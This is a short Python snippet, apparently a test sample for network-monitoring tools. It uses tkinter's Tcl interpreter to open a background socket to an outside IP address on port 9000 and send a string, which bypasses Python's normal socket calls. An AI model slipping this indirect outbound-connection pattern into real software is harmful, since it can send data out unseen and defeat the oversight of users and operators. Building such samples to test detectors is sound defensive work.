"""Tcl connects in the background."""
import tkinter

tkinter.Tcl().eval("set channel [socket -async 93.184.216.35 9000]; fileevent $channel writable {set done 1}; vwait done; puts -nonewline $channel data; close $channel")
